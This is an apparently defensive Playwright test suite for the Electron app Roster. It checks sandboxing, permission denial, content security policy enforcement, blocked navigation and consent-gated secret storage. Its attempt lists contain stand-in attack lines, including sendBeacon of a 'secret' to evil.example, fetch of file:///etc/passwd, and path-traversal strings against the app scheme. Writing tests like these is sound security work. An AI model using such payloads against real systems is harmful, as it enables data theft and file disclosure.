// Nobody gets in through the shell: the built bundles under the stand-in, and a page that tries everything it can.
import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type Page } from '@playwright/test'
import { expect, test as base } from './roster.ts'
import { Standin } from './standin/client.ts'

interface Fixtures {
  /** A data folder of the test's own. */
  folder: string
  standin: Standin
  /** The window's page, once the interface is there. */
  inside: Page
}

const test = base.extend<Fixtures>({
  folder: async ({}, use) => {
    const folder = realpathSync(mkdtempSync(join(tmpdir(), 'roster-shell-')))
    await use(folder)
    rmSync(folder, { recursive: true, force: true, maxRetries: 5 })
  },
  standin: async ({ folder }, use) => {
    const standin = await Standin.start({ dataFolder: join(folder, 'data') })
    await use(standin)
    await standin.stop()
    expect(standin.recorded('stopped')).toEqual([])
  },
  inside: async ({ standin }, use) => {
    const page = await standin.page()
    await expect(page.getByRole('navigation')).toBeVisible()
    await use(page)
  },
})

const START = 'app://roster/'
const address = async (standin: Standin) => (await standin.windows()).map(({ url }) => url.replace(/#.*/, ''))

test('the window is made with every protection on', async ({ standin }) => {
  const windows = await standin.windows()
  expect(windows).toHaveLength(1)
  const { preload, devTools, ...preferences } = windows[0]?.preferences ?? {}
  expect(preload).toMatch(/[\\/]out[\\/]preload[\\/]preload\.cjs$/)
  // On for development; packages have none.
  expect(devTools).toBe(true)
  // All of them: nothing experimental, no insecure content, no Node in frames or workers.
  expect(preferences).toEqual({
    contextIsolation: true,
    sandbox: true,
    nodeIntegration: false,
    webSecurity: true,
    webviewTag: false,
    spellcheck: false,
  })
  expect(standin.recorded('switch')).toEqual([])
})

test('a packed Roster has no developer tools', async ({ folder }) => {
  const standin = await Standin.start({ dataFolder: join(folder, 'data'), env: { STANDIN_PACKAGED: '1' } })
  try {
    const [window] = await standin.windows()
    expect(window?.preferences).toMatchObject({ devTools: false, sandbox: true, contextIsolation: true })
  } finally {
    await standin.stop()
  }
})

const OF_NODE = [
  ...['require', 'process', 'module', 'exports', 'Buffer', 'global', 'setImmediate', 'clearImmediate', '__dirname'],
  ...['__filename', 'electron', 'ipcRenderer', 'contextBridge', 'webFrame', 'roster', 'api'],
]

test('the page has no Node and no Electron', async ({ inside }) => {
  const cdp = await inside.context().newCDPSession(inside)
  const worlds: { id: number; name: string }[] = []
  cdp.on('Runtime.executionContextCreated', ({ context }) => void worlds.push(context))
  await cdp.send('Runtime.enable')
  const isolated = worlds.find(({ name }) => name === 'Electron Isolated Context')
  const main = worlds.find(({ name }) => name === '')
  expect(isolated).toBeDefined()
  expect(main).toBeDefined()
  const expression = `JSON.stringify(${JSON.stringify(OF_NODE)}.filter((name) => typeof globalThis[name] !== 'undefined'))`
  for (const world of [main, isolated]) {
    const { result } = await cdp.send('Runtime.evaluate', { expression, contextId: world?.id ?? 0 })
    expect([world?.name, result.value]).toEqual([world?.name, '[]'])
  }
  await cdp.detach()
})

test('the page gets nothing that it has not in a browser', async ({ inside, roster, page }) => {
  await page.goto(await roster.start())
  await expect(page.getByRole('navigation')).toBeVisible()
  const names = `['window', 'navigator', 'document'].flatMap((owner) => {
    const found = []
    for (let one = globalThis[owner]; one && one !== Object.prototype; one = Object.getPrototypeOf(one))
      found.push(...Reflect.ownKeys(one).map((key) => owner + '.' + String(key)))
    return found
  }).map((name) => name.replace(/(_reactListening).*/, '$1')).filter((name) => !name.startsWith('window.__playwright'))`
  const [inWindow, inBrowser] = [await inside.evaluate<string[]>(names), await page.evaluate<string[]>(names)]
  expect(inBrowser.length).toBeGreaterThan(500)
  expect(inWindow.filter((name) => !inBrowser.includes(name))).toEqual([])
})

test('every permission the page asks for is denied', async ({ standin, inside }) => {
  const asked = standin.recorded<{ permission: string; isGranted: boolean }>('permission')
  expect(asked.length).toBeGreaterThan(5)
  expect(asked.filter(({ isGranted }) => isGranted).map(({ permission }) => permission)).toEqual(
    // Writing needs a click as well; reading is denied.
    asked.map(({ permission }) => permission).filter((permission) => permission === 'clipboard-sanitized-write'),
  )
  const outcomes = await inside.evaluate(`(async () => {
    const outcome = (promise) =>
      Promise.resolve(promise).then(
        (value) => 'granted: ' + String(value),
        (error) => (error instanceof Error || error instanceof DOMException ? error.name : 'code ' + error.code),
      )
    const state = (name) => outcome(navigator.permissions.query({ name }).then(({ state }) => Promise.reject({ code: state })))
    return {
      notifications: await Notification.requestPermission(),
      geolocation: await outcome(new Promise((done, refused) => navigator.geolocation.getCurrentPosition(done, refused))),
      camera: await outcome(navigator.mediaDevices.getUserMedia({ video: true })),
      microphone: await outcome(navigator.mediaDevices.getUserMedia({ audio: true })),
      clipboard: await outcome(navigator.clipboard.readText()),
      midi: await outcome(navigator.requestMIDIAccess()),
      states: await Promise.all(['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi'].map(state)),
    }
  })()`)
  expect(outcomes).toEqual({
    notifications: 'denied',
    // GeolocationPositionError.PERMISSION_DENIED
    geolocation: 'code 1',
    camera: expect.stringMatching(/NotAllowedError|NotFoundError/) as unknown,
    microphone: expect.stringMatching(/NotAllowedError|NotFoundError/) as unknown,
    clipboard: 'NotAllowedError',
    midi: expect.stringMatching(/NotAllowedError|SecurityError/) as unknown,
    states: Array.from({ length: 6 }, () => 'code denied'),
  })
})

test('a click may put text on the clipboard', async ({ inside }) => {
  await inside.evaluate(`addEventListener('click', () => {
    window.copied = navigator.clipboard.writeText('copied').then(() => 'done', (error) => error.name)
  }, { capture: true, once: true })`)
  await inside.getByRole('navigation').click({ position: { x: 2, y: 2 } })
  expect(await inside.evaluate('window.copied')).toBe('done')
})

/** Each attempt leaves `window.got` alone, and the policy names what it refused. */
const REFUSED: readonly [what: string, attempt: string, directive: RegExp][] = [
  ['eval', "eval('window.got = 1')", /script|trusted/],
  ['a function of text', "new Function('window.got = 1')()", /script|trusted/],
  ['a timer of text', "setTimeout('window.got = 1')", /script|trusted/],
  ['an inline script', "add('script', (one) => (one.textContent = 'window.got = 1'))", /script|trusted/],
  [
    'an inline listener',
    "add('button', (one) => (one.setAttribute('onclick', 'window.got = 1'), one.click()))",
    /script|trusted/,
  ],
  ['a script of another origin', "import('https://evil.example/x.js')", /script/],
  ['a script of data', "import('data:text/javascript,window.got=1')", /script/],
  [
    'a script of bytes',
    "import(URL.createObjectURL(new Blob(['window.got = 1'], { type: 'text/javascript' })))",
    /script/,
  ],
  ['a script address', "add('script', (one) => (one.src = 'https://evil.example/x.js'))", /trusted/],
  ['a worker', "new Worker(URL.createObjectURL(new Blob(['1'])))", /trusted|worker/],
  ['a style without nonce', "add('style', (one) => (one.textContent = 'body { --got: 1 }'))", /style/],
  [
    'a style of another origin',
    "add('link', (one) => ((one.rel = 'stylesheet'), (one.href = 'https://evil.example/x.css')))",
    /style/,
  ],
  ['an image of another origin', "add('img', (one) => (one.src = 'https://evil.example/x.png'))", /img/],
  ['an image of data', "add('img', (one) => (one.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='))", /img/],
  ['a font', "new FontFace('x', 'url(https://evil.example/x.woff2)').load()", /font/],
  ['a sound', "add('audio', (one) => (one.src = 'https://evil.example/x.mp3'))", /media|default/],
  ['a frame', "add('iframe', (one) => (one.src = 'https://evil.example/'))", /frame/],
  ['a frame of our own page', "add('iframe', (one) => (one.src = '/'))", /frame/],
  ['an object', "add('object', (one) => (one.data = 'https://evil.example/x.swf'))", /object|trusted/],
  ['fetch', "fetch('https://evil.example/')", /connect/],
  ['fetch over http', "fetch('http://127.0.0.1:80/')", /connect/],
  ['fetch of a file', "fetch('file:///etc/passwd')", /connect/],
  ['fetch of our own files', "fetch('/index.html')", /connect/],
  ['a socket', "new WebSocket('wss://evil.example/')", /connect/],
  ['an event source', "new EventSource('https://evil.example/')", /connect/],
  ['a beacon', "navigator.sendBeacon('https://evil.example/', 'secret')", /connect/],
  [
    'a request',
    "(() => { const one = new XMLHttpRequest(); one.open('GET', 'https://evil.example/'); one.send() })()",
    /connect/,
  ],
  ['a base address', "add('base', (one) => (one.href = 'https://evil.example/'))", /base/],
  ['a form', "add('form', (one) => ((one.action = 'https://evil.example/'), setTimeout(() => one.submit())))", /form/],
]

test('the policy refuses code, files and connections of others', async ({ standin, inside }) => {
  await inside.evaluate(`
    window.breaches = []
    addEventListener('securitypolicyviolation', (event) => void breaches.push(event.effectiveDirective))
    window.add = (name, change) => {
      const one = document.createElement(name)
      change(one)
      document.head.append(one)
    }`)
  for (const [what, attempt, directive] of REFUSED) {
    // In a task of its own: what Playwright evaluates itself may use eval.
    await inside.evaluate(`void (breaches.length = 0) || setTimeout(() => {
      try {
        Promise.resolve(${attempt}).catch(() => undefined)
      } catch {
        // What throws is refused; the policy still says so.
      }
    })`)
    await expect
      .poll(async () => `${what}: ${(await inside.evaluate<string[]>('breaches')).join(' ')}`)
      .toMatch(new RegExp(`: .*(${directive.source})`))
  }
  expect(await inside.evaluate('window.got')).toBeUndefined()
  expect(await inside.evaluate("getComputedStyle(document.body).getPropertyValue('--got')")).toBe('')
  expect(standin.recorded('network')).toEqual([])
  expect(await address(standin)).toEqual([START])
})

const AWAY = [
  'https://evil.example/',
  'http://127.0.0.1:1/',
  'app://evil/',
  'app://roster/assets/none.js',
  'app://roster/other.html',
]
/** What the window is called in Chromium; see the stand-in's README. */
const inChromium = (url: string) =>
  url
    .replace('app://roster/', 'https://roster.app.standin.invalid/')
    .replace('app://evil/', 'https://evil.app.standin.invalid/')

const LEAVE: Record<string, (url: string) => string> = {
  'location =': (url) => `location.href = '${url}'`,
  'location.replace': (url) => `location.replace('${url}')`,
  'a link': (url) => `(() => {
    const link = document.createElement('a')
    link.href = '${url}'
    document.body.append(link)
    link.click()
  })()`,
  'a refreshing meta element': (url) => `(() => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = '0;url=${url}'
    document.head.append(meta)
  })()`,
}

test('the page cannot be led away', async ({ standin, inside }) => {
  for (const [how, leave] of Object.entries(LEAVE)) {
    for (const url of AWAY) {
      const before = standin.recorded('prevented').length
      await inside.evaluate(leave(inChromium(url)))
      await expect.poll(() => [how, standin.recorded('prevented').slice(before)]).toEqual([how, [{ url }]])
    }
  }
  // These Chromium refuses by itself.
  for (const url of ['file:///etc/passwd', 'data:text/html,x', 'javascript:window.got=1', 'chrome://settings'])
    await inside.evaluate(`location.href = ${JSON.stringify(url)}`)
  await inside.waitForTimeout(300)
  expect(await address(standin)).toEqual([START])
  expect(await inside.evaluate('window.got')).toBeUndefined()
  await expect(inside.getByRole('navigation')).toBeVisible()
  expect(standin.recorded('network')).toEqual([])
})

test('no second window opens', async ({ standin, inside }) => {
  for (const url of ['https://evil.example/', inChromium('app://roster/'), inChromium('app://evil/')]) {
    await inside.evaluate(`void window.open('${url}')`)
    await inside.evaluate(`(() => {
      const link = document.createElement('a')
      link.href = '${url}'
      link.target = '_blank'
      document.body.append(link)
      link.click()
    })()`)
  }
  await expect.poll(() => standin.recorded<{ action: string }>('window-open').length).toBeGreaterThanOrEqual(6)
  expect(new Set(standin.recorded<{ action: string }>('window-open').map(({ action }) => action))).toEqual(
    new Set(['deny']),
  )
  expect(await standin.windows()).toHaveLength(1)
  expect(standin.recorded('open-external')).toEqual([])
  expect(standin.recorded('network')).toEqual([])
})

test('nothing of another origin is loaded', async ({ standin, inside }) => {
  const origins = await inside.evaluate<string[]>(
    "[...new Set(performance.getEntries().filter(({ name }) => name.includes(':')).map(({ name }) => new URL(name).origin))]",
  )
  expect(origins).toEqual(['https://roster.app.standin.invalid'])
  expect(standin.recorded('network')).toEqual([])
})

test('what the policy does not govern leads to a proxy that does not exist', ({ standin }) => {
  expect(standin.recorded('webrtc')).toEqual([{ policy: 'disable_non_proxied_udp' }])
  expect(standin.recorded('proxy')).toEqual([
    { mode: 'fixed_servers', proxyRules: 'roster.invalid:9', proxyBypassRules: '<-loopback>' },
  ])
})

test('the built scheme serves nothing beside the page', async ({ standin }) => {
  const ask = async (url: string, method = 'GET') =>
    (await standin.ask('request', url, method)) as { status: number; body: string } | null
  expect((await ask('app://roster/'))?.status).toBe(200)
  for (const path of [
    ...['/../../package.json', '/../main/desktop.js', '/..%2f..%2fpackage.json', '/%2e%2e/%2e%2e/package.json'],
    ...['/..%5c..%5cpackage.json', '/..\\..\\package.json', '/%252e%252e%252fpackage.json', '//etc/passwd'],
    ...['/index.html%00', '/assets', '/assets/../../main/desktop.js', '/.built-from', '/__proto__'],
  ]) {
    const answer = await ask(`app://roster${path}`)
    expect([path, answer?.status, answer?.body]).toEqual([path, 404, 'There is nothing here.'])
  }
  for (const url of ['app://evil/', 'app://roster.evil/index.html', 'app://name@roster/'])
    expect([url, (await ask(url))?.status]).toEqual([url, 403])
  expect((await ask('app://roster/', 'POST'))?.status).toBe(403)
})

test('secrets need a keychain or an agreement', async ({ standin, inside, folder }) => {
  await inside.addInitScript("addEventListener('message', ({ ports }) => (window.port ??= ports[0]))")
  await inside.reload()
  await expect(inside.getByRole('navigation')).toBeVisible()
  let count = 0
  /** As a page that was taken over would call: by the window's own port, past the interface. */
  const call = (path: string, input: unknown) =>
    inside.evaluate<unknown>(`new Promise((resolve) => {
      const id = 'outside-${++count}'
      port.addEventListener('message', ({ data }) => {
        const { i, p } = JSON.parse(data)
        if (i === id) resolve(p.b.json ?? p)
      })
      port.postMessage(JSON.stringify({ i: id, p: { u: '${path}', b: { json: ${JSON.stringify(input)} } } }))
    })`)
  const agreement = join(folder, 'data', 'secrets-without-keychain.json')

  expect(await call('/app/secretStorage', null)).toEqual({ state: 'ready', isAgreed: false })
  await standin.ask('keychain', 'basic_text')
  expect(await call('/app/secretStorage', null)).toEqual({ state: 'refused', isAgreed: false })
  // The person is asked natively: a page cannot agree for them.
  await standin.dialogs.prepareMessage(1)
  expect(await call('/app/agreeToPlainSecrets', { isAgreed: true })).toEqual({ state: 'refused', isAgreed: false })
  expect(existsSync(agreement)).toBe(false)
  await standin.dialogs.prepareMessage(0)
  expect(await call('/app/agreeToPlainSecrets', { isAgreed: true })).toEqual({ state: 'ready', isAgreed: true })
  expect(JSON.parse(readFileSync(agreement, 'utf8'))).toMatchObject({ agreed: true })
  if (process.platform !== 'win32') expect(statSync(agreement).mode & 0o777).toBe(0o600)
  await standin.ask('keychain', 'unavailable')
  expect(await call('/app/secretStorage', null)).toEqual({ state: 'refused', isAgreed: true })
  await standin.ask('keychain', 'basic_text')
  expect(await call('/app/agreeToPlainSecrets', { isAgreed: false })).toEqual({ state: 'refused', isAgreed: false })
  expect(existsSync(agreement)).toBe(false)
})
